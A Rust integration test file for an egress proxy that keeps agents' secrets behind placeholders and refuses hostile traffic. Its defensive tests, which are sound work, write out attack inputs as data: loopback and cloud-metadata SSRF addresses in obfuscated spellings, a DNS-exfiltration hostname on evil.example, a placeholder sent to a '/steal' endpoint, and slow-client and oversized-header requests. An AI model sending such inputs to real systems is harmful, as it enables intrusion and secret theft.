//! The egress proxy with real curl and real git: secrets swapped at the edge for the
//! hosts they are bound to and nowhere else, never seen by the agent; SSRF and hostile
//! input refused; everything dies with the task.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed expectation is the test failing"
)]

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use common::{Broker, json, mandate, run, run_with_stdin, scratch_repo};

const CANARY: &str = "ghs_CANARY_4f1d9e2b7c_real_value";

/// A data directory whose proxy trusts the test CA and resolves the test names to
/// 127.0.0.1, as a DNS server pointing them at an internal address would.
fn data_dir(root: &Path, upstream_ca: &Path, extra: &str) -> std::path::PathBuf {
    let data = root.join("data");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(
        data.join("config.toml"),
        format!(
            "proxy_upstream_ca = {:?}\n{extra}\n[resolve]\n\"api.test\" = [\"127.0.0.1\"]\n\"other.test\" = [\"127.0.0.1\"]\n\"meta.test\" = [\"169.254.169.254\"]\n\"registry.npmjs.org\" = [\"127.0.0.1\"]\n\"static.crates.io\" = [\"169.254.169.254\"]\n",
            upstream_ca.display().to_string()
        ),
    )
    .unwrap();
    data
}

fn store_secret(data: &Path, name: &str, host: &str) {
    let out = run_with_stdin(
        mandate(data).args(["secret", "set", name, "--host", host]),
        format!("{CANARY}\n").as_bytes(),
    );
    assert!(out.status.success());
}

fn start(data: &Path, repo: &Path, extra: &[&str]) -> serde_json::Value {
    let out = run(mandate(data)
        .args([
            "task",
            "start",
            "--purpose",
            "egress test",
            "--json",
            "--repo",
        ])
        .arg(repo)
        .args(extra));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    json(&out)
}

/// curl through the proxy as the task; returns (HTTP code, body + stderr).
fn curl(proxy: &str, token: &str, cacert: &Path, args: &[&str]) -> (String, String) {
    let out = Command::new("curl")
        .args(["-sS", "--max-time", "20", "-w", "\n%{http_code}", "--proxy"])
        .arg(format!("http://task:{token}@{proxy}"))
        .arg("--cacert")
        .arg(cacert)
        .args(args)
        .env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", &text));
    (
        code.trim().to_owned(),
        format!("{body}{}", String::from_utf8_lossy(&out.stderr)),
    )
}

fn grep_tree(dir: &Path, needle: &[u8]) -> Vec<String> {
    let mut hits = Vec::new();
    for entry in walk(dir) {
        if let Ok(bytes) = std::fs::read(&entry)
            && bytes.windows(needle.len()).any(|w| w == needle)
        {
            hits.push(entry.display().to_string());
        }
    }
    hits
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let Ok(rd) = std::fs::read_dir(dir) else {
        return out;
    };
    for e in rd.flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

fn git(dir: &Path, args: &[&str]) -> Output {
    Command::new("git")
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

#[test]
fn a_secret_reaches_its_host_through_curl_and_git_and_nothing_else_sees_it() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = scratch_repo(tmp.path());
    assert!(
        git(
            &repo,
            &[
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "commit",
                "-qm",
                "x",
                "--allow-empty"
            ]
        )
        .status
        .success()
    );
    // The upstream's bare repository.
    let git_root = tmp.path().join("srv");
    std::fs::create_dir_all(&git_root).unwrap();
    assert!(
        git(&git_root, &["init", "-q", "--bare", "repo.git"])
            .status
            .success()
    );
    let up = common::upstream::start(
        tmp.path(),
        &["api.test", "other.test"],
        git_root.clone(),
        CANARY,
    );
    let port = up.addr.port();
    let data = data_dir(tmp.path(), &up.ca_pem, "");
    let broker = Broker::start(&data, &[]);
    let proxy = broker.proxy.clone().expect("proxy address");
    store_secret(&data, "GH_TOKEN", &format!("api.test:{port}"));
    let list = run(mandate(&data).args(["secret", "list"]));
    let listed = String::from_utf8_lossy(&list.stdout);
    assert!(
        listed.contains("GH_TOKEN") && !listed.contains(CANARY),
        "{listed}"
    );

    let task = start(&data, &repo, &["--secret", "GH_TOKEN"]);
    let token = task["token"].as_str().unwrap();
    let placeholder = task["placeholders"]["GH_TOKEN"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(placeholder.starts_with("mandate_ph_GH_TOKEN_"));
    let ca = data.join("proxy-ca.pem");

    // curl with the placeholder to the bound host: the upstream sees the real value.
    let (code, body) = curl(
        &proxy,
        token,
        &ca,
        &[
            "-H",
            &format!("Authorization: Bearer {placeholder}"),
            &format!("https://api.test:{port}/echo"),
        ],
    );
    assert_eq!(code, "200", "{body}");
    assert!(
        up.seen
            .lock()
            .unwrap()
            .contains(&Some(format!("Bearer {CANARY}")))
    );

    // The placeholder to a host it is not bound to: refused, and a deviation.
    let (code, body) = curl(
        &proxy,
        token,
        &ca,
        &[
            "-H",
            &format!("Authorization: Bearer {placeholder}"),
            &format!("http://other.test:{port}/steal"),
        ],
    );
    assert_eq!(code, "403", "{body}");
    assert!(body.contains("secret.placeholder-elsewhere"), "{body}");
    let show = run(mandate(&data)
        .args(["task", "show"])
        .arg(task["task_id"].as_str().unwrap()));
    assert!(
        String::from_utf8_lossy(&show.stdout).contains("task.deviation"),
        "{}",
        String::from_utf8_lossy(&show.stdout)
    );

    // git push under `mandate run`: the helper hands git the placeholder, the proxy
    // swaps it, the server sees the real token and takes the push.
    let push = |url: &str| {
        mandate(&data)
            .args(["run", "--secret", "GH_TOKEN", "--repo"])
            .arg(&repo)
            .args(["--", "git", "push", url, "HEAD:refs/heads/mandate/egress"])
            .current_dir(&repo)
            .env_remove("NO_PROXY")
            .env_remove("no_proxy")
            .env("GIT_TERMINAL_PROMPT", "0")
            .output()
            .unwrap()
    };
    let out = push(&format!("https://api.test:{port}/repo.git"));
    assert!(
        out.status.success(),
        "push failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        git(
            &git_root.join("repo.git"),
            &["rev-parse", "refs/heads/mandate/egress"]
        )
        .status
        .success()
    );
    let basic = format!(
        "Basic {}",
        base64::Engine::encode(
            &base64::engine::general_purpose::STANDARD,
            format!("x-access-token:{CANARY}")
        )
    );
    assert!(up.seen.lock().unwrap().contains(&Some(basic)));

    // A push to another host is refused at the proxy.
    let out = push(&format!("https://other.test:{port}/repo.git"));
    assert!(!out.status.success());

    // The agent's environment holds the placeholder, never the value.
    let env = mandate(&data)
        .args(["run", "--secret", "GH_TOKEN", "--repo"])
        .arg(&repo)
        .args(["--", "env"])
        .output()
        .unwrap();
    let env = String::from_utf8_lossy(&env.stdout);
    assert!(env.contains("GH_TOKEN=mandate_ph_GH_TOKEN_"), "{env}");
    assert!(env.contains("HTTPS_PROXY=http://task:"), "{env}");
    assert!(!env.contains(CANARY));

    // The same push as the started task (its proxy URL, its token for the helper)
    // works while it lives and fails once it has ended.
    let push_as_task = || {
        Command::new("git")
            .current_dir(&repo)
            .env("HTTPS_PROXY", format!("http://task:{token}@{proxy}"))
            .env("GIT_SSL_CAINFO", &ca)
            .env("MANDATE_TOKEN", token)
            .env("MANDATE_SOCKET", data.join("mandate.sock"))
            .env("GIT_TERMINAL_PROMPT", "0")
            .env_remove("NO_PROXY")
            .env_remove("no_proxy")
            .args(["-c", "credential.helper="])
            .arg("-c")
            .arg(format!(
                "credential.helper=!'{}' git-credential",
                common::bin()
            ))
            .args([
                "push",
                "--force",
                &format!("https://api.test:{port}/repo.git"),
                "HEAD:refs/heads/mandate/again",
            ])
            .output()
            .unwrap()
    };
    let out = push_as_task();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // After the task ends, its token opens nothing.
    let end = run(mandate(&data)
        .args(["task", "end"])
        .arg(task["task_id"].as_str().unwrap()));
    assert!(end.status.success());
    let (code, _) = curl(
        &proxy,
        token,
        &ca,
        &[
            "-H",
            &format!("Authorization: Bearer {placeholder}"),
            &format!("https://api.test:{port}/echo"),
        ],
    );
    assert_ne!(code, "200");
    let out = push_as_task();
    assert!(
        !out.status.success(),
        "a push after the task ended went through"
    );

    // Canary: not in the repository, the audit log, its exports or the data directory
    // (the store holds it encrypted).
    let jsonl = run(mandate(&data).args(["audit", "export", "--format", "jsonl"]));
    let ocsf = run(mandate(&data).args(["audit", "export", "--format", "ocsf"]));
    assert!(jsonl.status.success() && ocsf.status.success());
    for export in [&jsonl.stdout, &ocsf.stdout] {
        assert!(!String::from_utf8_lossy(export).contains(CANARY));
    }
    assert!(String::from_utf8_lossy(&ocsf.stdout).contains("placeholder-elsewhere"));
    broker.stop();
    assert_eq!(grep_tree(&data, CANARY.as_bytes()), Vec::<String>::new());
    assert_eq!(grep_tree(&repo, CANARY.as_bytes()), Vec::<String>::new());
}

#[test]
fn internal_addresses_in_every_spelling_are_refused_unless_named() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = scratch_repo(tmp.path());
    let up = common::upstream::start(tmp.path(), &["api.test"], tmp.path().to_owned(), CANARY);
    let port = up.addr.port();
    let data = data_dir(
        tmp.path(),
        &up.ca_pem,
        &format!("proxy_tunnel_ports = [443, {port}]"),
    );
    let broker = Broker::start(&data, &[]);
    let proxy = broker.proxy.clone().unwrap();
    let ca = data.join("proxy-ca.pem");
    let task = start(&data, &repo, &[]);
    let token = task["token"].as_str().unwrap();
    // Addresses the policy lets through (the machine itself, registries) are refused by
    // the address check, whatever the spelling and whatever DNS says a registry is.
    for host in [
        "127.0.0.1",
        "2130706433",
        "0x7f000001",
        "0x7f.1",
        "0177.0.0.1",
        "127.1",
        "[::ffff:127.0.0.1]",
        "127.0.0.1.",
        "localhost",
        "[::1]",
        "registry.npmjs.org",
        "static.crates.io",
    ] {
        let (code, body) = curl(&proxy, token, &ca, &[&format!("http://{host}:{port}/")]);
        assert_eq!(code, "403", "{host}: {body}");
        assert!(body.contains("egress.internal-address"), "{host}: {body}");
    }
    // Hosts the task does not name are refused before any lookup (a lookup of a name
    // nobody allowed is itself a message out).
    for host in [
        "api.test",
        "169.254.169.254",
        "meta.test",
        "10.0.0.1",
        "[fd00:ec2::254]",
    ] {
        let (code, body) = curl(&proxy, token, &ca, &[&format!("http://{host}:{port}/")]);
        assert_eq!(code, "403", "{host}: {body}");
        assert!(body.contains("--allow-host"), "{host}: {body}");
    }
    // Data smuggled in a host name is refused before any lookup.
    let (code, body) = curl(
        &proxy,
        token,
        &ca,
        &["http://aGVsbG8gd29ybGQgc2VjcmV0IGtleQ.evil.example/"],
    );
    assert_eq!(code, "403", "{body}");
    assert!(body.contains("egress.dns-exfiltration"), "{body}");
    // Named in the mandate, the same host is reached: tunnelled (no secret is bound
    // there), so curl sees the upstream's own certificate.
    let named = start(&data, &repo, &["--allow-host", "api.test"]);
    let (code, body) = curl(
        &proxy,
        named["token"].as_str().unwrap(),
        &up.ca_pem,
        &[&format!("https://api.test:{port}/")],
    );
    assert_eq!(code, "200", "{body}");
    assert!(body.contains("hello from upstream"), "{body}");
    // A port the configuration does not name is not tunnelled.
    let (code, body) = curl(
        &proxy,
        named["token"].as_str().unwrap(),
        &up.ca_pem,
        &[&format!("https://api.test:{}/", port.wrapping_add(1))],
    );
    assert_eq!(code, "000", "{body}");
    assert!(body.contains("403"), "{body}");
    broker.stop();
}

/// Sends raw bytes to the proxy and returns the status line's code.
fn raw(proxy: &str, bytes: &[u8]) -> u16 {
    let mut s = TcpStream::connect(proxy).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
    let _ = s.write_all(bytes);
    // The status line is enough: the connection may be kept alive after it.
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    while !buf.windows(2).any(|w| w == b"\r\n") {
        match s.read(&mut chunk) {
            Ok(0) | Err(_) => break,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    }
    let text = String::from_utf8_lossy(&buf);
    text.split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0)
}

#[test]
fn hostile_input_gets_a_clear_4xx_and_stalls_nobody() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = scratch_repo(tmp.path());
    let up = common::upstream::start(tmp.path(), &["api.test"], tmp.path().to_owned(), CANARY);
    let data = data_dir(tmp.path(), &up.ca_pem, "");
    let broker = Broker::start(&data, &[]);
    let proxy = broker.proxy.clone().unwrap();
    let task = start(&data, &repo, &["--allow-host", "example.com"]);
    let token = task["token"].as_str().unwrap();
    // Slow clients hold connections open, sending half a request head.
    let slow: Vec<TcpStream> = (0..20)
        .map(|_| {
            let mut s = TcpStream::connect(&proxy).unwrap();
            s.write_all(b"GET http://example.com/ HTTP/1.1\r\nHost: exa")
                .unwrap();
            s
        })
        .collect();
    let started = Instant::now();
    assert_eq!(raw(&proxy, b"NOT A REQUEST\r\n\r\n"), 400);
    assert_eq!(
        raw(
            &proxy,
            b"GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n"
        ),
        407
    );
    assert_eq!(
        raw(&proxy, b"GET http://example.com/ HTTP/1.1\r\nProxy-Authorization: Bearer forged.token.x\r\n\r\n"),
        407
    );
    let big = format!(
        "GET http://example.com/ HTTP/1.1\r\nX-Big: {}\r\n\r\n",
        "a".repeat(100_000)
    );
    assert_eq!(raw(&proxy, big.as_bytes()), 431);
    let connect =
        format!("CONNECT example.com:25 HTTP/1.1\r\nProxy-Authorization: Bearer {token}\r\n\r\n");
    assert_eq!(raw(&proxy, connect.as_bytes()), 403);
    // Reading a public page is allowed under develop, but a tunnel is not a page: what
    // it carries is not seen, so one to a host outside the task's scope is refused.
    let tunnel = format!(
        "CONNECT docs.example.org:443 HTTP/1.1\r\nProxy-Authorization: Bearer {token}\r\n\r\n"
    );
    assert_eq!(raw(&proxy, tunnel.as_bytes()), 403);
    let out = run(mandate(&data).args(["--json", "audit", "tail", "-n", "100"]));
    let refused_by_policy = String::from_utf8_lossy(&out.stdout).lines().any(|l| {
        l.contains("docs.example.org")
            && l.contains("develop.connect.unknown-host")
            && !l.contains("develop.fetch.public")
    });
    assert!(
        refused_by_policy,
        "the tunnel was refused by the policy, not only by a failed lookup"
    );
    let origin_form = format!("GET / HTTP/1.1\r\nProxy-Authorization: Bearer {token}\r\n\r\n");
    assert_eq!(raw(&proxy, origin_form.as_bytes()), 400);
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "others' requests stalled: {:?}",
        started.elapsed()
    );
    drop(slow);
    broker.stop();
}

#[test]
fn a_github_app_key_mints_a_short_lived_token_per_task_revoked_at_its_end() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = scratch_repo(tmp.path());
    let up = common::upstream::start(tmp.path(), &["api.test"], tmp.path().to_owned(), CANARY);
    let port = up.addr.port();
    let data = data_dir(tmp.path(), &up.ca_pem, "");
    let broker = Broker::start(&data, &[]);
    let proxy = broker.proxy.clone().unwrap();
    let key = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/github-app-test-key.pem"
    ))
    .unwrap();
    let mut set = mandate(&data);
    set.args([
        "secret",
        "set",
        "GH_APP",
        "--host",
        &format!("api.test:{port}"),
    ])
    .args(["--github-app", "7", "--installation", "42"])
    .args(["--github-api", &format!("https://api.test:{port}")])
    .args(["--repository", "repo-a", "--permission", "contents=write"]);
    assert!(run_with_stdin(&mut set, key.as_bytes()).status.success());
    let listed = run(mandate(&data).args(["secret", "list"]));
    assert!(String::from_utf8_lossy(&listed.stdout).contains("GitHub App 7"));

    let task = start(&data, &repo, &["--secret", "GH_APP"]);
    let token = task["token"].as_str().unwrap();
    let auth = format!(
        "Authorization: Bearer {}",
        task["placeholders"]["GH_APP"].as_str().unwrap()
    );
    let ca = data.join("proxy-ca.pem");
    let url = format!("https://api.test:{port}/repos/o/repo-a");
    // The first request mints (JWT signed with the app key, scoped as stored); the
    // second reuses the token.
    for _ in 0..2 {
        let (code, body) = curl(&proxy, token, &ca, &["-H", &auth, &url]);
        assert_eq!(code, "200", "{body}");
    }
    let minted = up.issuer.minted.lock().unwrap().clone();
    assert_eq!(minted.len(), 1, "{minted:?}");
    assert_eq!(minted[0].0, "7", "the JWT names the app");
    assert_eq!(minted[0].1["repositories"], serde_json::json!(["repo-a"]));
    assert_eq!(minted[0].1["permissions"]["contents"], "write");
    let seen = up.seen.lock().unwrap().clone();
    assert!(
        seen.contains(&Some("Bearer ghs_minted_1".into())),
        "{seen:?}"
    );
    assert!(!seen.iter().flatten().any(|a| a.contains("PRIVATE KEY")));

    // A token close to its expiry is minted again before use.
    up.issuer
        .lifetime
        .store(120, std::sync::atomic::Ordering::SeqCst);
    let other = start(&data, &repo, &["--secret", "GH_APP"]);
    let other_auth = format!(
        "Authorization: Bearer {}",
        other["placeholders"]["GH_APP"].as_str().unwrap()
    );
    for _ in 0..2 {
        let (code, body) = curl(
            &proxy,
            other["token"].as_str().unwrap(),
            &ca,
            &["-H", &other_auth, &url],
        );
        assert_eq!(code, "200", "{body}");
    }
    assert_eq!(
        up.issuer.minted.lock().unwrap().len(),
        3,
        "each use of a token about to expire mints anew"
    );

    // The task ends: its token is revoked at the issuer.
    assert!(
        run(mandate(&data)
            .args(["task", "end"])
            .arg(task["task_id"].as_str().unwrap()))
        .status
        .success()
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    while !up
        .issuer
        .revoked
        .lock()
        .unwrap()
        .contains(&"ghs_minted_1".to_owned())
    {
        assert!(Instant::now() < deadline, "ghs_minted_1 was not revoked");
        std::thread::sleep(Duration::from_millis(50));
    }
    broker.stop();
    assert_eq!(grep_tree(&data, b"ghs_minted_1"), Vec::<String>::new());
}

#[test]
fn a_placeholder_in_a_streamed_body_to_the_wrong_host_is_stopped() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = scratch_repo(tmp.path());
    let up = common::upstream::start(tmp.path(), &["api.test"], tmp.path().to_owned(), CANARY);
    let port = up.addr.port();
    let data = data_dir(tmp.path(), &up.ca_pem, "");
    let broker = Broker::start(&data, &[]);
    let proxy = broker.proxy.clone().unwrap();
    store_secret(&data, "GH_TOKEN", &format!("api.test:{port}"));
    store_secret(&data, "NPM_TOKEN", "registry.test");
    let task = start(
        &data,
        &repo,
        &["--secret", "GH_TOKEN", "--secret", "NPM_TOKEN"],
    );
    let token = task["token"].as_str().unwrap();
    let gh = task["placeholders"]["GH_TOKEN"].as_str().unwrap();
    let npm = task["placeholders"]["NPM_TOKEN"].as_str().unwrap();
    let ca = data.join("proxy-ca.pem");
    // A large body, the other secret's placeholder deep inside it.
    let body = tmp.path().join("body.json");
    std::fs::write(
        &body,
        format!(
            "{{\"pad\": \"{}\", \"npm\": \"{npm}\"}}",
            "x".repeat(200_000)
        ),
    )
    .unwrap();
    let (code, out) = curl(
        &proxy,
        token,
        &ca,
        &[
            "-H",
            &format!("Authorization: Bearer {gh}"),
            "--data-binary",
            &format!("@{}", body.display()),
            &format!("https://api.test:{port}/gists"),
        ],
    );
    assert_eq!(code, "403", "{out}");
    assert!(out.contains("secret.placeholder-elsewhere"), "{out}");
    let kinds: Vec<String> = {
        let out = run(mandate(&data).args(["audit", "export", "--format", "jsonl"]));
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .map(|v| v["kind"].as_str().unwrap_or_default().to_owned())
            .collect()
    };
    assert!(kinds.iter().any(|k| k == "task.deviation"), "{kinds:?}");
    // The same body without the foreign placeholder goes through.
    std::fs::write(&body, format!("{{\"pad\": \"{}\"}}", "x".repeat(200_000))).unwrap();
    let (code, out) = curl(
        &proxy,
        token,
        &ca,
        &[
            "-H",
            &format!("Authorization: Bearer {gh}"),
            "--data-binary",
            &format!("@{}", body.display()),
            &format!("https://api.test:{port}/gists"),
        ],
    );
    assert_eq!(code, "200", "{out}");
    broker.stop();
}
